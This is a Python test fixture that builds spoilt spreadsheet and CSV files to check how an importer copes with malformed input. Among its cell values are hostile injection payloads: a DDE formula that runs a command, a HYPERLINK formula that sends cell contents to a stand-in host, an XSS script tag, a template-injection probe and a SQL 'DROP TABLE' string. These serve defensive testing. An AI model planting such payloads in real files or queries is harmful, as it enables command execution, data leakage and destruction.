"""Tables as people and their enemies hand them in: refused as a whole, or spoilt in a cell, each made from a proper one."""

import csv
import io
from collections.abc import Callable
from typing import Any

import openpyxl
from openpyxl.cell.cell import Cell
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from tests.portal.sheets.test_sheets_in import HOSTILE as UNREADABLE
from tests.proofs.files.importers import Importer

Spoil = Callable[["Table"], None]


class Table:
    """The first sheet of a workbook with its header found: `at` is a cell below a heading, 1 being the first row."""

    def __init__(self, importer: Importer) -> None:
        self.importer = importer
        self.book: Workbook = openpyxl.load_workbook(io.BytesIO(importer.own))
        self.sheet: Worksheet = self.book.worksheets[0]
        headings = [importer.texts[0], *importer.days[:1]]
        self.header = next(
            row for row in range(1, 12) if {str(cell.value) for cell in self.sheet[row]} >= set(headings)
        )
        self.places = {str(cell.value): cell.column for cell in self.sheet[self.header] if cell.value}
        self.rows = [
            row
            for row in range(self.header + 1, self.sheet.max_row + 1)
            if self.sheet.cell(row, self.places[importer.texts[-1]]).value
        ]

    def at(self, heading: str, row: int = 0) -> Cell:
        found = self.sheet.cell(self.rows[row], self.places[heading])
        assert isinstance(found, Cell)
        return found

    def text(self, row: int = 0) -> Cell:
        return self.at(self.importer.texts[0], row)

    def day(self, row: int = 0) -> Cell:
        return self.at(self.importer.days[0] if self.importer.days else self.importer.texts[0], row)

    def saved(self) -> bytes:
        file = io.BytesIO()
        self.book.save(file)
        return file.getvalue()

    def values(self) -> list[list[str]]:
        return [["" if cell.value is None else str(cell.value) for cell in row] for row in self.sheet.iter_rows()]


def typed(where: str, *values: Any) -> Spoil:
    def spoil(table: Table) -> None:
        for row, value in enumerate(values):
            if row < len(table.rows):
                getattr(table, where)(row).value = value

    return spoil


def number_at_the_end(table: Table) -> None:
    table.sheet.cell(table.rows[-1] + 1, 1).value = 440303198001011234


def merged_down(table: Table) -> None:
    place = table.places[table.importer.texts[0]]
    last = max(table.rows[-1], table.rows[0] + 1)
    table.sheet.merge_cells(start_row=table.rows[0], end_row=last, start_column=place, end_column=place)


def merged_over_everything(table: Table) -> None:
    table.sheet.merge_cells(start_row=table.rows[0], end_row=table.rows[-1] + 1, start_column=1, end_column=8)


def mac_days(table: Table) -> None:
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    table.book.epoch = CALENDAR_MAC_1904


def no_header(table: Table) -> None:
    table.sheet.delete_rows(1, table.header)


def header_twice(table: Table) -> None:
    for heading, place in table.places.items():
        table.sheet.cell(table.rows[-1] + 1, place).value = heading


def heading_twice(table: Table) -> None:
    table.sheet.cell(table.header, table.sheet.max_column + 1).value = table.importer.texts[0]


def heading_gone(table: Table) -> None:
    table.sheet.cell(table.header, table.places[table.importer.texts[0]]).value = "别的"


def turned_round(table: Table) -> None:
    """The columns in the opposite order."""
    for row in range(table.header, table.sheet.max_row + 1):
        cells = [table.sheet.cell(row, place) for place in range(1, table.sheet.max_column + 1)]
        for cell, value in zip(cells, [cell.value for cell in reversed(cells)], strict=True):
            cell.value = value


def another_name(table: Table) -> None:
    table.sheet.title = "Sheet1"


def behind_others(table: Table) -> None:
    for name in ("封面", "填表说明2"):
        table.book.create_sheet(name, 0).append(["请先看说明"])


def hidden(table: Table) -> None:
    table.book.create_sheet("可见").append(["空"])
    table.sheet.sheet_state = "hidden"


def rows_twice(table: Table) -> None:
    for row in list(table.rows):
        table.sheet.append([cell.value for cell in table.sheet[row]])


def ids_of_others(table: Table) -> None:
    for row in table.rows:
        for heading, place in table.places.items():
            if heading.startswith("编号（"):
                table.sheet.cell(row, place).value = "00000000-0000-0000-0000-00000000000g"


def versions_made_up(table: Table) -> None:
    for row in table.rows:
        for heading, place in table.places.items():
            if heading.startswith("版本（"):
                table.sheet.cell(row, place).value = "99;=;due=zz"
    table.text().value = "改一改"


def blank_rows_between(table: Table) -> None:
    table.sheet.insert_rows(table.rows[-1], 3_000)


def nothing_below(table: Table) -> None:
    table.sheet.delete_rows(table.rows[0], table.sheet.max_row)


def no_sheet_worth_it(table: Table) -> None:
    table.sheet.delete_rows(1, table.sheet.max_row)


IN_A_CELL: dict[str, Spoil] = {
    "identity number as a number": typed("text", 440303198001011234),
    "identity number as text": typed("text", "联系人11010519491231002X"),
    "scientific text": typed("text", "1.1E+17"),
    "mobile number": typed("text", "请致电13800138000"),
    "formula": typed("text", "=1+1"),
    "formula to a site": typed("text", '=HYPERLINK("http://example.test/"&A1,"点我")'),
    "formula that starts a program": typed("text", "=cmd|'/c calc'!A0"),
    "error value": typed("text", "#REF!"),
    "control character": typed("text", "a_x0001_b"),
    "overlong": typed("text", "长" * 32_000),
    "only blanks": typed("text", " \u3000\u200b"),
    "bidi": typed("text", "\u202e反向\u2066"),
    "faces": typed("text", "👩‍👩‍👧‍👦🏳️‍🌈"),
    "markup": typed("text", "<script>alert(1)</script>{{ 7*7 }}{% raw %}"),
    "commands": typed("text", "'; DROP TABLE unit; -- {} %s"),
    "a truth": typed("text", True),
    "full-width digits": typed("day", "２０２６－１１－２１"),
    "day in points": typed("day", "2026.11.21"),
    "no such day": typed("day", "2026-02-30"),
    "far day": typed("day", "9999-12-31"),
    "day of long ago": typed("day", "0001-01-01"),
    "day without a year": typed("day", "11月21日"),
    "day as a number": typed("day", 45617),
    "day as a huge number": typed("day", 9.9e307),
    "day as words": typed("day", "年底前"),
    "number below everything": number_at_the_end,
    "merged down": merged_down,
    "merged over everything": merged_over_everything,
    "days counted from 1904": mac_days,
    "no header": no_header,
    "header twice": header_twice,
    "heading twice": heading_twice,
    "heading gone": heading_gone,
    "columns turned round": turned_round,
    "another name": another_name,
    "behind other sheets": behind_others,
    "hidden": hidden,
    "rows twice": rows_twice,
    "ids of others": ids_of_others,
    "versions made up": versions_made_up,
    "three thousand blank rows": blank_rows_between,
    "header only": nothing_below,
    "nothing at all": no_sheet_worth_it,
}
"""Each spoils a proper table in one way; what becomes of it is the importer's to say, cell by cell."""
CODINGS = {"gbk": "gbk", "bom": "utf-8-sig", "utf-16": "utf-16"}
"""As text with commas, in the codings offices use."""


def spoilt(importer: Importer) -> dict[str, tuple[str, bytes]]:
    """Every bad file made of this importer's own, by what is bad about it. Made when asked for: some are big."""
    made: dict[str, tuple[str, bytes]] = {name: (called, data) for name, (called, data, _) in UNREADABLE.items()}
    for name, coding in CODINGS.items():
        made[f"as text: {name}"] = ("台账.csv", as_text(Table(importer), coding))
    made["as text: nul"] = ("台账.csv", as_text(Table(importer), "utf-8").replace("，".encode(), b"\0"))
    for name, spoil in IN_A_CELL.items():
        table = Table(importer)
        spoil(table)
        made[name] = ("台账.xlsx", table.saved())
    return made


def as_text(table: Table, coding: str) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(table.values())
    return out.getvalue().encode(coding, "replace")
